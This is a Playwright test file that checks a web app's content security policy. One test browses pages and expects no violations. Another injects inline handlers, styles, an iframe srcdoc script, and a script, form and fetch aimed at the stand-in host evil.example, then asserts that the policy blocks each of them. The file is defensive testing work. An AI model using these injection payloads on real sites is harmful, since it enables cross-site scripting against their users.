/** The content security policy as a browser carries it out: the desk's own pages stay within it, and what is foreign does not run. */
import type { Page } from 'playwright/test';
import { expect, test } from './fixtures';

declare global {
  interface Window {
    violations: string[];
    ran?: boolean;
  }
}

async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      window.violations.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  return () => page.evaluate(() => window.violations);
}

test('pages stay within their policy when one goes from page to page', async ({ page }) => {
  const violations = await watchPolicy(page);
  await page.goto('/');
  for (const name of ['Orders', 'Payouts', 'Reconciliation', 'Bank', 'Today'])
    await page.getByRole('navigation').getByRole('link', { name, exact: true }).first().click();
  await page.goto('/reports/trends');
  await page.locator('.chart-area svg').first().waitFor();
  await page.keyboard.press('Control+k');
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.keyboard.press('Escape');
  await page.goto('/orders');
  await page.reload();
  expect(await violations()).toEqual([]);
});

test('scripts and styles that got into a page do nothing, whatever form they have', async ({
  page,
  trouble,
}) => {
  trouble.allowRefused();
  const violations = await watchPolicy(page);
  await page.goto('/orders');
  const refused = await page.evaluate(async () => {
    const add = (html: string) => {
      const place = document.createElement('div');
      place.innerHTML = html;
      document.body.append(place);
    };
    add('<img src="data:image/png;base64,x" onerror="window.ran = true">');
    add('<style>main { display: none }</style>');
    add('<iframe srcdoc="<script>parent.ran = true</script>"></iframe>');
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(script);
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/x.js';
    document.body.append(foreign);
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.submit();
    const fetched = await fetch('https://evil.example/').then(
      () => 'sent',
      () => 'refused',
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    return {
      ran: window.ran ?? false,
      fetched,
      shown: getComputedStyle(document.querySelector('main') ?? document.body).display,
    };
  });
  expect(refused).toEqual({ ran: false, fetched: 'refused', shown: expect.not.stringMatching('none') });
  const found = (await violations()).join('\n');
  for (const directive of [
    'script-src-attr',
    'style-src-elem',
    'script-src-elem',
    'form-action',
    'connect-src',
  ])
    expect(found).toContain(directive);
});
